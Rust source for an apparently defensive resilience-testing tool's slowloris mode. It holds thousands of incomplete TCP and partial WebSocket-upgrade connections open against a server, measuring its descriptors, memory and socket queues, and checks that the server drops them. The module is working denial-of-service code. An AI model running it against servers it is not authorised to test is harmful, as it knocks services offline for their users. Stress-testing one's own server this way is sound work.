//! `attack --kind slowloris`: `--connections` TCP connections (default 3,000) that never
//! complete a request. Half say nothing after the TCP connect; half send the start of a
//! WebSocket upgrade request (request line and four of its headers, no blank line) and stop.
//! Each is held until the server closes it or `--duration` seconds after the last one opened.
//!
//! Reported: the server's descriptors, RSS and the kernel's sockets for its port 1, 12 and
//! 30 s after the last connection opened (the handshake timeout is 10 s by default), how each
//! connection ended and after how long, the attack connections still open second by second as
//! the attacker sees them, and how many handshakes the kernel dropped for a full accept queue.
//! The probes say whether `/healthz` answered and a real client could connect and join
//! meanwhile.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use serde::Serialize;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpSocket;
use tokio::sync::{Semaphore, mpsc};
use tokio_util::sync::CancellationToken;

use super::http::{self, Ending};
use super::report::{Check, Counts, Millis, Outcome, bump, counts_cell};
use super::{Ctx, sampler};
use crate::cli::CONNECTIONS_PER_SOURCE_IP;
use crate::procfs::{self, PortSockets};
use crate::target::source_ip;

/// The seconds after the last connection opened at which the server is read.
pub const MARKS_S: [f64; 3] = [1.0, 12.0, 30.0];

/// What the half that starts an upgrade sends: no blank line, so the head never completes.
const PARTIAL_UPGRADE: &[u8] = b"GET /socket/websocket?vsn=2.0.0 HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n";

/// TCP connects in flight at once.
const CONNECT_CONCURRENCY: usize = 256;

/// The server at one mark.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Mark {
    /// Seconds after the last connection opened.
    pub after_open_s: f64,
    /// Open descriptors of the server.
    pub fds: Option<u64>,
    /// Its RSS, KiB.
    pub rss_kib: Option<u64>,
    /// The kernel's TCP sockets for the server's port (accepted or waiting to be).
    pub server_sockets: Option<PortSockets>,
    /// Attack connections still open, as the attacker sees them.
    pub held_open: u64,
}

/// The slowloris figures.
#[derive(Clone, Debug, Serialize)]
pub struct SlowlorisFindings {
    /// Connections attempted.
    pub connections: usize,
    /// Of which silent after the connect.
    pub silent: usize,
    /// Of which stopping inside an upgrade request.
    pub partial_upgrade: usize,
    /// TCP connects that failed.
    pub connect_failed: u64,
    /// The first connect error.
    pub first_connect_error: Option<String>,
    /// Seconds from the start until every connect had finished.
    pub open_s: f64,
    /// The server at 1, 12 and 30 s after that.
    pub marks: Vec<Mark>,
    /// How the silent connections ended.
    pub silent_endings: Counts,
    /// How the partial-upgrade connections ended.
    pub partial_endings: Counts,
    /// Time from a connection's connect to the server closing it, over those it closed.
    pub closed_after: Option<Millis>,
    /// `[seconds since the start, attack connections open]`, every second, as the attacker
    /// sees them. This includes silent connections whose handshake the server's kernel
    /// dropped while the accept queue was full: the client believes them open, the server
    /// knows nothing of them (see `listen_overflows` and the marks' `server_sockets`).
    pub held_open: Vec<[f64; 2]>,
    /// Machine-wide `TcpExt ListenOverflows` during the attack: completed handshakes dropped
    /// because a listener's accept queue was full.
    pub listen_overflows: Option<u64>,
}

/// One connection's life, in seconds since the start of the attack.
#[derive(Clone, Debug, PartialEq)]
struct Life {
    opened_s: Option<f64>,
    ended_s: Option<f64>,
    ending: Option<Ending>,
}

/// Connections open at `t_s`: opened at or before it, not yet ended.
fn open_at(lives: &[(Option<f64>, Option<f64>)], t_s: f64) -> u64 {
    lives
        .iter()
        .filter(|(opened, ended)| opened.is_some_and(|o| o <= t_s) && ended.is_none_or(|e| e > t_s))
        .count() as u64
}

/// `[t, open]` every `step` seconds from 0 to `until`.
fn held_open_series(lives: &[(Option<f64>, Option<f64>)], step: f64, until: f64) -> Vec<[f64; 2]> {
    let steps = (until / step).floor() as usize;
    (0..=steps)
        .map(|i| {
            let t = i as f64 * step;
            [t, open_at(lives, t) as f64]
        })
        .collect()
}

async fn one(
    i: usize,
    addr: SocketAddr,
    ctx: Ctx,
    gate: Arc<Semaphore>,
    opened: mpsc::UnboundedSender<Result<(), String>>,
    stop: CancellationToken,
) -> Life {
    let n = ctx.args.connections();
    let ips = n.div_ceil(CONNECTIONS_PER_SOURCE_IP);
    let offset = (std::process::id() as usize % 50) * 4;
    let connected = {
        let _permit = gate.acquire().await;
        let attempt = async {
            let socket = TcpSocket::new_v4()?;
            socket.bind(SocketAddr::new(source_ip(i, ips, offset), 0))?;
            let mut stream = socket.connect(addr).await?;
            if i % 2 == 1 {
                stream.write_all(PARTIAL_UPGRADE).await?;
            }
            std::io::Result::Ok(stream)
        };
        attempt.await
    };
    let opened_s = ctx.now_s();
    let mut stream = match connected {
        Ok(s) => {
            let _ = opened.send(Ok(()));
            s
        }
        Err(e) => {
            let _ = opened.send(Err(e.to_string()));
            return Life {
                opened_s: None,
                ended_s: None,
                ending: None,
            };
        }
    };
    // Held until the server ends it or the attack stops.
    let forever = Duration::from_secs(24 * 3600);
    let ending = tokio::select! {
        x = http::read_answer(&mut stream, forever) => x.ending,
        () = stop.cancelled() => Ending::StillOpen,
    };
    let ended_s = (ending != Ending::StillOpen).then(|| ctx.now_s());
    Life {
        opened_s: Some(opened_s),
        ended_s,
        ending: Some(ending),
    }
}

/// Runs the attack.
pub async fn run(ctx: Ctx) -> anyhow::Result<Outcome<SlowlorisFindings>> {
    let n = ctx.args.connections();
    let addr = ctx.target.addr();
    let idle_fds = ctx
        .target
        .pid
        .and_then(|pid| sampler::read(pid, ctx.origin))
        .map(|s| s.fds);
    let overflows_before = procfs::listen_overflows();
    let gate = Arc::new(Semaphore::new(CONNECT_CONCURRENCY));
    let stop = CancellationToken::new();
    let (tx, mut rx) = mpsc::unbounded_channel();
    let mut tasks = Vec::with_capacity(n);
    for i in 0..n {
        tasks.push(tokio::spawn(one(
            i,
            addr,
            ctx.clone(),
            gate.clone(),
            tx.clone(),
            stop.clone(),
        )));
    }
    drop(tx);
    let (mut failed, mut first_error) = (0u64, None);
    // Each connection reports once, right after its connect (it keeps its sender while it
    // is held, so the channel does not close).
    for _ in 0..n {
        match rx.recv().await {
            Some(Ok(())) => {}
            Some(Err(e)) => {
                failed += 1;
                first_error.get_or_insert(e);
            }
            None => break,
        }
    }
    let open_s = ctx.now_s();
    eprintln!(
        "{} connections open after {open_s:.1} s ({failed} failed); holding {:.0} s",
        n as u64 - failed,
        ctx.args.duration().as_secs_f64()
    );
    let hold_until = ctx.origin + Duration::from_secs_f64(open_s) + ctx.args.duration();
    let mut marks = Vec::new();
    for mark in MARKS_S {
        let at = ctx.origin + Duration::from_secs_f64(open_s + mark);
        if at > hold_until {
            break;
        }
        tokio::time::sleep_until(at.into()).await;
        let s = ctx
            .target
            .pid
            .and_then(|pid| sampler::read(pid, ctx.origin));
        marks.push((mark, s, procfs::port_sockets(addr.port())));
    }
    tokio::time::sleep_until(hold_until.into()).await;
    stop.cancel();
    let mut lives = Vec::with_capacity(n);
    for t in tasks {
        lives.push(t.await?);
    }
    let spans: Vec<(Option<f64>, Option<f64>)> =
        lives.iter().map(|l| (l.opened_s, l.ended_s)).collect();
    let marks: Vec<Mark> = marks
        .into_iter()
        .map(|(mark, s, sockets)| Mark {
            after_open_s: mark,
            fds: s.map(|s| s.fds),
            rss_kib: s.map(|s| s.rss_kib),
            server_sockets: sockets,
            held_open: open_at(&spans, open_s + mark),
        })
        .collect();
    let (mut silent_endings, mut partial_endings) = (Counts::new(), Counts::new());
    let mut closed_after = Vec::new();
    for (i, life) in lives.iter().enumerate() {
        let Some(ending) = &life.ending else { continue };
        let counts = if i % 2 == 1 {
            &mut partial_endings
        } else {
            &mut silent_endings
        };
        bump(counts, ending.label());
        if let (Some(o), Some(e)) = (life.opened_s, life.ended_s) {
            closed_after.push((e - o) * 1000.0);
        }
    }
    let findings = SlowlorisFindings {
        connections: n,
        silent: n.div_ceil(2),
        partial_upgrade: n / 2,
        connect_failed: failed,
        first_connect_error: first_error,
        open_s,
        marks,
        silent_endings,
        partial_endings,
        closed_after: Millis::of(closed_after),
        held_open: held_open_series(&spans, 1.0, ctx.now_s()),
        listen_overflows: procfs::listen_overflows()
            .zip(overflows_before)
            .map(|(after, before)| after.saturating_sub(before)),
    };
    let mut rows = vec![
        (
            "connections (silent / partial upgrade)".to_owned(),
            format!(
                "{n} ({} / {}), {} failed, open after {open_s:.1} s",
                findings.silent, findings.partial_upgrade, failed
            ),
        ),
        (
            "silent: endings".to_owned(),
            counts_cell(&findings.silent_endings),
        ),
        (
            "partial upgrade: endings".to_owned(),
            counts_cell(&findings.partial_endings),
        ),
        (
            "closed by the server after p50 / p99 / max".to_owned(),
            Millis::cell(&findings.closed_after),
        ),
    ];
    for m in &findings.marks {
        rows.push((
            format!(
                "at +{:.0} s: server fds / RSS / kernel sockets / held open",
                m.after_open_s
            ),
            format!(
                "{} / {} / {} / {}",
                m.fds.map_or("n/a".into(), |f| f.to_string()),
                m.rss_kib
                    .map_or("n/a".into(), |k| format!("{:.1} MiB", k as f64 / 1024.0)),
                m.server_sockets
                    .map_or("n/a".into(), |k| (k.established + k.syn_recv).to_string()),
                m.held_open
            ),
        ));
    }
    rows.push((
        "listen queue overflows (machine-wide)".to_owned(),
        findings
            .listen_overflows
            .map_or("n/a".into(), |v| v.to_string()),
    ));
    // Probes may hold a socket or two at any moment.
    const SLACK: u64 = 4;
    let last = findings.marks.last();
    let let_go = last.is_some_and(|m| {
        m.fds
            .zip(idle_fds)
            .is_none_or(|(f, idle)| f <= idle + SLACK)
            && m.server_sockets
                .is_none_or(|k| k.established + k.syn_recv <= SLACK)
    });
    let checks = vec![Check::new(
        "the server let go of every attack connection by the last mark",
        let_go && failed == 0,
        match last {
            Some(m) => format!(
                "at +{:.0} s: {} fds (idle {}), kernel sockets {:?}; {failed} failed to connect",
                m.after_open_s,
                m.fds.map_or("n/a".into(), |f| f.to_string()),
                idle_fds.map_or("n/a".into(), |f| f.to_string()),
                m.server_sockets
            ),
            None => "no mark was reached (--duration too short)".to_owned(),
        },
    )];
    Ok(Outcome {
        findings,
        rows,
        checks,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn connections_held_open_over_time() {
        let lives = [
            (Some(0.1), Some(10.2)),
            (Some(0.2), None),
            (Some(0.5), Some(10.0)),
            (None, None),
            (Some(1.5), Some(2.0)),
        ];
        assert_eq!(open_at(&lives, 0.0), 0);
        assert_eq!(open_at(&lives, 1.0), 3);
        assert_eq!(open_at(&lives, 1.9), 4);
        // Ended exactly at t: no longer open.
        assert_eq!(open_at(&lives, 10.0), 2);
        assert_eq!(open_at(&lives, 11.0), 1);
        let series = held_open_series(&lives, 1.0, 3.5);
        assert_eq!(series, vec![[0.0, 0.0], [1.0, 3.0], [2.0, 3.0], [3.0, 3.0]]);
    }
}
